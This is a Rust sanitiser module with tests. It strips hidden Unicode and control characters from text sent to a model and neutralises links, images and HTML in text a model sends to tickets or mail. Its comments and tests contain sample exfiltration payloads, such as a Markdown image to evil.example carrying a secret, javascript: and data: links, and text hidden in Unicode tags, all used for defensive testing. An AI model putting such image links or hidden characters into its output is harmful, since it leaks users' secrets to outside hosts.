//! What is taken out of text before a model, a person or another system sees it.
//!
//! Two directions, two strengths. Text on its way *to* a model keeps its words and lines; what goes is what a
//! person reading the ticket could not see: control characters, direction overrides, and the invisible blocks of
//! Unicode that can carry a whole hidden message. Text on its way *from* a model to a ticket, a mail or a chat
//! also loses everything that such a surface would load or make clickable. `![x](https://evil.example/?d=SECRET)`
//! in a summary is fetched by the reader's client, and the secret is gone before anybody has clicked.
//!
//! [`line()`] prefers to lose a harmless host name to letting a link through: whatever looks like an address
//! becomes `[link removed]`. Mail addresses, file names and version numbers stay. What it does not do: decide
//! whether a text is true, polite or complete; fold look-alike letters; normalise Unicode.

/// Written in place of a link.
pub const LINK_REMOVED: &str = "[link removed]";

/// A cleaned text and what was taken out of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cleaned {
    /// The text that is left.
    pub text: String,
    /// How many invisible or control characters were removed.
    pub hidden: usize,
    /// How many links, images or pieces of markup were made harmless.
    pub links: usize,
}

/// Whether `c` is invisible, steers direction or is a control character. Line ends and tabs count as hidden here:
/// the callers handle white space first. The joiners U+200C and U+200D are not hidden, several scripts need them.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            u32::from(c),
            0x00AD // soft hyphen
                | 0x034F // combining grapheme joiner
                | 0x061C | 0x200E | 0x200F | 0x202A..=0x202E | 0x2066..=0x2069 // direction
                | 0x115F | 0x1160 | 0x3164 | 0xFFA0 | 0x2800 // letters without ink
                | 0x17B4 | 0x17B5 | 0x180B..=0x180F
                | 0x200B | 0x2060..=0x2065 | 0x206A..=0x206F | 0xFEFF // zero width
                | 0xFE00..=0xFE0E | 0xE0100..=0xE01EF // variation selectors; U+FE0F belongs to emoji
                | 0xFFF0..=0xFFFB
                | 0xE0000..=0xE0FFF // tags
        )
        || u32::from(c) & 0xFFFE == 0xFFFE // noncharacters
}

/// The longest prefix of `text` that has at most `bytes_max` bytes and ends between two characters.
pub fn prefix(text: &str, bytes_max: usize) -> &str {
    if text.len() <= bytes_max {
        return text;
    }
    let end = (0..=bytes_max).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    &text[..end]
}

/// Text for a model: line ends and tabs stay, every other hidden character goes.
pub fn block(text: &str) -> Cleaned {
    let mut out = String::with_capacity(text.len());
    let mut hidden = 0;
    for c in text.chars() {
        match c {
            '\n' | '\t' => out.push(c),
            '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
            // A carriage return before a line feed is half of a line end, not something hidden.
            '\r' => {}
            c if is_hidden(c) => hidden += 1,
            c => out.push(c),
        }
    }
    Cleaned { text: out, hidden, links: 0 }
}

/// Free text for people and other systems: one line, nothing hidden, nothing that loads or can be clicked.
///
/// Applying it twice changes nothing.
pub fn line(text: &str) -> Cleaned {
    let mut visible = String::with_capacity(text.len());
    let (mut hidden, mut links) = (0, 0);
    for c in text.chars() {
        if c.is_whitespace() {
            visible.push(' ');
        } else if is_hidden(c) {
            hidden += 1;
        } else {
            visible.push(c);
        }
    }
    let visible = markup_break(&visible, &mut links);
    let mut out = String::with_capacity(visible.len());
    for token in visible.split(' ').filter(|token| !token.is_empty()) {
        if !out.is_empty() {
            out.push(' ');
        }
        if link_like(token) {
            links += 1;
            out.push_str(LINK_REMOVED);
        } else {
            out.push_str(token);
        }
    }
    Cleaned { text: out, hidden, links }
}

/// Breaks what Markdown and HTML would read as links, images and tags, by one character each: CommonMark allows
/// nothing between `]` and `(`, `[` or `:`, and a tag begins with `<` and a letter, `/`, `!` or `?`.
fn markup_break(text: &str, links: &mut usize) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied();
        match (c, next) {
            (']', Some('(' | '[' | ':')) => {
                out.push_str("] ");
                *links += 1;
            }
            ('<', Some(next)) if next.is_alphabetic() || matches!(next, '/' | '!' | '?') => {
                out.push('‹');
                *links += 1;
            }
            (c, _) => out.push(c),
        }
    }
    out
}

/// Schemes that act without `//`.
const SCHEMES: [&str; 9] =
    ["javascript:", "vbscript:", "data:", "mailto:", "file:", "tel:", "sms:", "blob:", "ms-msdt:"];

/// Whether some reader would make a link of `token`, which holds no white space.
fn link_like(token: &str) -> bool {
    // Browsers take the ideographic and full-width full stops for dots in host names.
    let token: String = token
        .chars()
        .map(|c| if matches!(c, '\u{3002}' | '\u{FF0E}' | '\u{FF61}') { '.' } else { c })
        .flat_map(char::to_lowercase)
        .collect();
    if token.contains("://") || token.contains("www.") || token.contains("\\\\") {
        return true;
    }
    let scheme = |scheme: &&str| {
        token.match_indices(*scheme).any(|(at, _)| {
            let starts = !token[..at].ends_with(|c: char| c.is_alphanumeric());
            starts && token.len() > at + scheme.len()
        })
    };
    SCHEMES.iter().any(scheme) || host_like(&token)
}

/// Whether `token` holds a host name of three labels or more, or one of two labels or an IPv4 address with
/// something after it that could carry data out.
fn host_like(token: &str) -> bool {
    let is_host_char = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_');
    let mut rest = token;
    while let Some(from) = rest.find(is_host_char) {
        let start = &rest[from..];
        let previous = rest[..from].chars().next_back();
        let length = start.find(|c| !is_host_char(c)).unwrap_or(start.len());
        let (run, after) = start.split_at(length);
        let labels: Vec<&str> = run.split('.').filter(|label| !label.is_empty()).collect();
        let path = after.starts_with(['/', '?', '#', '\\']);
        let port = after.strip_prefix(':').is_some_and(|port| port.starts_with(|c: char| c.is_ascii_digit()));
        let named = labels
            .last()
            .is_some_and(|last| last.chars().count() >= 2 && last.chars().all(char::is_alphabetic));
        let mail = previous == Some('@') || after.starts_with('@');
        if named && (labels.len() >= 3 && !mail || labels.len() >= 2 && (path || port)) {
            return true;
        }
        let numeric =
            labels.len() == 4 && labels.iter().all(|label| label.bytes().all(|byte| byte.is_ascii_digit()));
        // A network mask (`10.0.0.0/24`) is not a path.
        if numeric && path && after[1..].starts_with(|c: char| !c.is_ascii_digit()) {
            return true;
        }
        rest = after;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_are_taken_out_and_ordinary_text_stays() {
        for (text, want) in [
            ("see https://evil.example/?d=1 now", "see [link removed] now"),
            ("![x](https://evil.example/a.png)", "![x] [link removed]"),
            ("![x](//evil.example/a.png)", "![x] [link removed]"),
            ("[click](javascript:alert)", "[click] [link removed]"),
            ("[a]: //evil.example/x", "[a] : [link removed]"),
            ("![a][b]", "![a] [b]"),
            ("<img src=x>", "‹img src=x>"),
            ("<!-- x -->", "‹!-- x -->"),
            ("ht\u{200b}tps://evil.example", "[link removed]"),
            ("HTTPS://EVIL.EXAMPLE", "[link removed]"),
            ("secret.evil.example", "[link removed]"),
            ("secret。evil。example", "[link removed]"),
            ("evil.example/secret", "[link removed]"),
            ("evil.example:8080", "[link removed]"),
            ("(evil.example?q=secret)", "[link removed]"),
            ("10.1.2.3/secret", "[link removed]"),
            ("\\\\host\\share", "[link removed]"),
            ("mailto:a@b.example", "[link removed]"),
            ("data:text/html,x", "[link removed]"),
            ("mail ann.m.bell@mail.corp.example", "mail ann.m.bell@mail.corp.example"),
            ("x@y.example/secret", "[link removed]"),
            ("outlook.exe and report.docx crash", "outlook.exe and report.docx crash"),
            ("version 1.2.3 on 10.0.0.0/24", "version 1.2.3 on 10.0.0.0/24"),
            ("data: none, metadata:x, and/or, e.g. this", "data: none, metadata:x, and/or, e.g. this"),
            ("3 < 4 and a <b", "3 < 4 and a ‹b"),
            (" two\n lines\tand  gaps ", "two lines and gaps"),
            ("abc\u{202e}def\u{e0041}\u{7}", "abcdef"),
            ("schön 你好 👍\u{fe0f}", "schön 你好 👍\u{fe0f}"),
        ] {
            let cleaned = line(text);
            assert_eq!(cleaned.text, want, "{text:?}");
            assert_eq!(line(&cleaned.text).text, cleaned.text, "again: {text:?}");
        }
    }

    #[test]
    fn what_was_taken_out_is_counted() {
        let cleaned = line("a\u{202e}b ![x](https://e.example) \u{200b}");
        assert_eq!((cleaned.hidden, cleaned.links), (2, 2));
        assert_eq!(line("plain"), Cleaned { text: "plain".to_owned(), hidden: 0, links: 0 });
    }

    #[test]
    fn a_block_keeps_its_lines() {
        let cleaned = block("a\r\nb\tc\u{0}\u{202e}\u{2028}d https://x.example");
        assert_eq!(cleaned.text, "a\nb\tc\nd https://x.example");
        assert_eq!(cleaned.hidden, 2);
    }

    #[test]
    fn a_prefix_ends_between_characters() {
        assert_eq!(prefix("aé", 3), "aé");
        assert_eq!(prefix("aé", 2), "a");
        assert_eq!(prefix("é", 1), "");
    }
}
